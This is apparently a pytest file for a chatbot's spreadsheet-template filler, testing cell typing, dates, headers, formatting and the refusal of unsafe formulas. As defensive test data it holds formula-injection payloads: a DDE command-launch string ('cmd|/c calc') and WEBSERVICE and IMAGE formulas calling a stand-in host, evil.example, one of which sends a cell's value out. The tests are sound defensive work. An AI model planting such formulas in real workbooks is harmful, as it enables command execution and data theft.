"""Workbook templates: fields in cells and page headers become text, numbers and dates, never formulas."""

from __future__ import annotations

import io
import re
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Alignment, Font
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from chatbot.errors import BrokenTemplate, InvalidRequest
from chatbot.office.fill import fill_template
from chatbot.office.template import OfficeTemplate, read_template
from tests.chatbot.office.files import (
    add_part,
    add_relationship,
    fill_xlsx,
    make_workbook,
    read_parts,
    replace_in,
)

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SHEET = "xl/worksheets/sheet1.xml"
DAY = date(2026, 3, 1)
# As openpyxl reads it: workbooks know no time zones.
DAY_START = datetime(2026, 3, 1)  # noqa: DTZ001


def read_xlsx(data: bytes) -> OfficeTemplate:
    """Read a workbook as a template."""
    return read_template(data, "invoice.xlsx")


def test_value_alone_in_a_cell_keeps_its_type() -> None:
    """Numbers are numbers, dates are dates, text is text; a style that shows dates its own way is kept."""

    def change(sheet: Worksheet) -> None:
        sheet["B1"].number_format = "0.00"
        sheet["B4"].number_format = "yyyy/mm/dd"

    names = ("price", "count", "day", "day", "moment", "paid")
    cells = {f"B{row}": "{{ " + name + " }}" for row, name in enumerate(names, 1)}
    values = {"price": 12.5, "count": 3, "day": DAY, "moment": DAY_START + timedelta(hours=18), "paid": True}
    sheet = fill_xlsx(make_workbook(cells, change), language="fr", **values)
    assert [sheet[f"B{row}"].value for row in range(1, 7)] == [
        *(12.5, 3, DAY_START, DAY_START, DAY_START + timedelta(hours=18), "oui"),
    ]
    formats = [sheet[f"B{row}"].number_format for row in (1, 3, 4, 5)]
    assert formats == ["0.00", "mm-dd-yy", "yyyy/mm/dd", "m/d/yy h:mm"]


def test_dates_follow_the_workbooks_own_epoch() -> None:
    """A workbook that counts from 1904 gets its dates so."""
    workbook = load_workbook(io.BytesIO(make_workbook({"A1": "{{ day }}"})))
    workbook.epoch = CALENDAR_MAC_1904
    target = io.BytesIO()
    workbook.save(target)
    assert fill_xlsx(target.getvalue(), day=DAY)["A1"].value == DAY_START


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x")', "=cmd|'/c calc'!A1"]
)
def test_value_is_never_a_formula(text: str) -> None:
    """A text that begins like a formula stays text, and stays so when the cell is edited."""
    sheet = fill_xlsx(make_workbook({"A1": "{{ a }}", "A2": "{{ a }} and more"}), a=text)
    for place, value in (("A1", text), ("A2", f"{text} and more")):
        cell = sheet[place]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


def test_fields_within_text() -> None:
    """Several fields in a cell are filled as words of the language; a missing one is empty."""
    cells = {"A1": "{{ name }}, {{ price }} €, {{ day }}{{ missing }}", "A2": "{{ missing }}", "A3": "plain"}
    sheet = fill_xlsx(make_workbook(cells), language="fr", name="A & <b>", price=12.5, day=DAY)
    assert [sheet[place].value for place in ("A1", "A2", "A3")] == [
        "A & <b>, 12,5 €, 1er mars 2026",
        None,
        "plain",
    ]


def test_lines_are_wrapped() -> None:
    """A value of several lines keeps them and gets the room; the cell's other looks stay."""

    def change(sheet: Worksheet) -> None:
        sheet["A1"].font = Font(bold=True)
        sheet["A1"].alignment = Alignment(horizontal="right")

    cell = fill_xlsx(make_workbook({"A1": "{{ a }}"}, change), a="one\r\ntwo\x00")["A1"]
    assert cell.parent.row_dimensions[1].height == 30
    assert (cell.value, cell.alignment.wrap_text, cell.alignment.horizontal, cell.font.bold) == (
        *("one\ntwo", True, "right", True),
    )


def test_formatting_within_a_cell_stays() -> None:
    """A field torn over differently formatted pieces is joined; pieces around it keep their looks."""
    rich = "<is><r><rPr><b/></rPr><t>Dear {{ na</t></r><r><t>me }}</t></r><r><rPr><i/></rPr><t>, hello</t></r></is>"
    data = replace_in(
        make_workbook({"A1": 1}), SHEET, '<c r="A1" t="n"><v>1</v></c>', f'<c r="A1" t="inlineStr">{rich}</c>'
    )
    template = read_xlsx(data)
    assert template.fields == ("name",)
    xml = read_parts(fill_template(template, {"name": "Anne"}))[SHEET].decode()
    assert '<b/></rPr><t xml:space="preserve">Dear Anne</t>' in xml
    assert '<i/></rPr><t xml:space="preserve">, hello</t>' in xml


def test_texts_that_cells_share_are_filled_cell_by_cell() -> None:
    """Excel keeps a text once for all cells that have it: each cell is filled, and the shared text stays."""
    data = make_workbook({"A1": "{{ name }}", "A2": "{{ name }}", "A3": "last"})
    parts = read_parts(data)
    sheet = re.sub(rb't="inlineStr"><is>.*?</is>', b't="s"><v>1</v>', parts[SHEET], count=2)
    texts = (
        "<si><t>none</t></si><si><r><t>{{ na</t></r><r><t>me }}</t></r><rPh sb='0' eb='1'><t>x</t></rPh></si>"
    )
    strings = f'<sst xmlns="{MAIN}">{texts}</sst>'.encode()
    data = add_part(add_part(data, SHEET, sheet), "xl/sharedStrings.xml", strings)
    data = add_relationship(data, "xl/workbook.xml", "sharedStrings", "sharedStrings.xml", "Internal")
    override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_STRINGS}"/></Types>'
    data = replace_in(data, "[Content_Types].xml", "</Types>", override)
    assert read_xlsx(data).fields == ("name",)
    filled = fill_xlsx(data, name="Anne")
    assert [filled[f"A{row}"].value for row in (1, 2, 3)] == ["Anne", "Anne", "last"]
    with pytest.raises(BrokenTemplate, match=r"cell A1, \{\{ Name \}\}"):
        read_xlsx(add_part(data, "xl/sharedStrings.xml", strings.replace(b"{{ na", b"{{ Na")))


def test_page_headers_are_filled() -> None:
    """Headers and footers of the pages take fields; an ampersand is no command there."""

    def change(sheet: Worksheet) -> None:
        sheet.oddHeader.center.text = "{{ name }}"
        sheet.oddFooter.left.text = "Ref. {{ reference }}"

    data = make_workbook({"A1": "x"}, change)
    assert read_xlsx(data).fields == ("name", "reference")
    xml = read_parts(fill_template(read_xlsx(data), {"name": "Tea & Co", "reference": "7"}))[SHEET].decode()
    assert "<oddHeader>&amp;CTea &amp;&amp; Co</oddHeader>" in xml
    assert "Ref. 7</oddFooter>" in xml
    with pytest.raises(InvalidRequest, match="page header"):
        fill_xlsx(data, name="x" * 300)


def test_everything_else_is_kept() -> None:
    """Formulas, merged cells, widths, print set-up and charts stay; only parts that change are written anew."""

    def change(sheet: Worksheet) -> None:
        sheet.merge_cells("A5:C5")
        sheet.column_dimensions["B"].width = 33
        sheet.print_area = "A1:C9"
        sheet.page_setup.orientation = "landscape"
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3))
        sheet.add_chart(chart, "E2")

    data = make_workbook({"A1": "{{ name }}", "B1": "{{ price }}", "B2": 2, "B3": "=SUM(B1:B2)"}, change)
    filled = fill_template(read_xlsx(data), {"name": "Anne", "price": 40})
    before, after = read_parts(data), read_parts(filled)
    assert list(after) == list(before)
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {SHEET, "xl/workbook.xml"}
    sheet = load_workbook(io.BytesIO(filled)).active
    assert isinstance(sheet, Worksheet)
    assert (sheet["B3"].value, sheet["B1"].value) == ("=SUM(B1:B2)", 40)
    assert [str(cells) for cells in sheet.merged_cells.ranges] == ["A5:C5"]
    assert (sheet.column_dimensions["B"].width, sheet.page_setup.orientation) == (33, "landscape")
    assert "xl/charts/chart1.xml" in after


def test_old_results_of_formulas_are_forgotten() -> None:
    """A result that was calculated before the filling is not shown; who opens the file calculates."""
    data = replace_in(make_workbook({"A1": "{{ n }}", "A2": "=A1*2"}), SHEET, "</f><v></v>", "</f><v>99</v>")
    parts = read_parts(fill_template(read_xlsx(data), {"n": 4}))
    assert b"<v>99</v>" not in parts[SHEET]
    assert b'fullCalcOnLoad="1"' in parts["xl/workbook.xml"]


@pytest.mark.parametrize(
    ("cells", "fault"),
    [
        ({"B2": "{{ Nom }}"}, "sheet “Invoice”, cell B2, {{ Nom }}: Nom is no name"),
        ({"B2": "{{ a"}, "cell B2, {{ a: A field that {{"),
        ({"C7": "{% if a %}x{% endif %}"}, "cell C7, {% if a %}: In a workbook there are fields alone"),
        ({"A1": '="{{ a }}"'}, 'cell A1, "{{ a }}": A field is filled in a cell\'s text'),
        ({"A1": '=WEBSERVICE("http://evil.example/"&A2)'}, "cell A1, WEBSERVICE("),
        ({"A1": "=cmd|'/c calc'!A1"}, "cell A1, cmd|'/c calc'!A1: This formula could fetch"),
        ({"A1": '=DDE("soffice";"x";"y")'}, "This formula could fetch"),
        ({"A1": '=_xlfn.IMAGE("http://evil.example/p")'}, "This formula could fetch"),
    ],
)
def test_fault_names_sheet_and_cell(cells: dict[str, object], fault: str) -> None:
    """A wrong field or formula is named with its sheet and cell, and is refused."""
    with pytest.raises(BrokenTemplate) as caught:
        read_xlsx(make_workbook(cells))
    assert fault in str(caught.value)
    assert str(caught.value).startswith("invoice.xlsx, sheet “Invoice”")


def test_fields_where_nothing_is_filled_are_refused() -> None:
    """Names of sheets, rules of validation and charts would keep the field: they are refused."""

    def validate(sheet: Worksheet) -> None:
        rule = DataValidation(type="list", formula1='"{{ a }}"')
        sheet.add_data_validation(rule)
        rule.add("A1")

    with pytest.raises(BrokenTemplate, match="not in formulas or rules"):
        read_xlsx(make_workbook({"A1": 1}, validate))
    named = replace_in(make_workbook({"A1": 1}), "xl/workbook.xml", 'name="Invoice"', 'name="{{ a }}"')
    with pytest.raises(BrokenTemplate, match=r"xl/workbook\.xml, \{\{ a \}\}: Fields are not filled there"):
        read_xlsx(named)
    with pytest.raises(BrokenTemplate, match=r"charts/chart9\.xml"):
        read_xlsx(add_part(make_workbook({"A1": 1}), "xl/charts/chart9.xml", b"<c><v>{{ a }}</v></c>"))


def test_cell_has_an_end() -> None:
    """A cell takes so many characters and no more; a number of too many digits is kept whole, as text."""
    with pytest.raises(InvalidRequest, match="Cell A1 would have 40,000 characters"):
        fill_xlsx(make_workbook({"A1": "{{ a }}"}), a="x" * 40_000)
    assert fill_xlsx(make_workbook({"A1": "{{ a }}"}), a=10**20)["A1"].value == str(10**20)
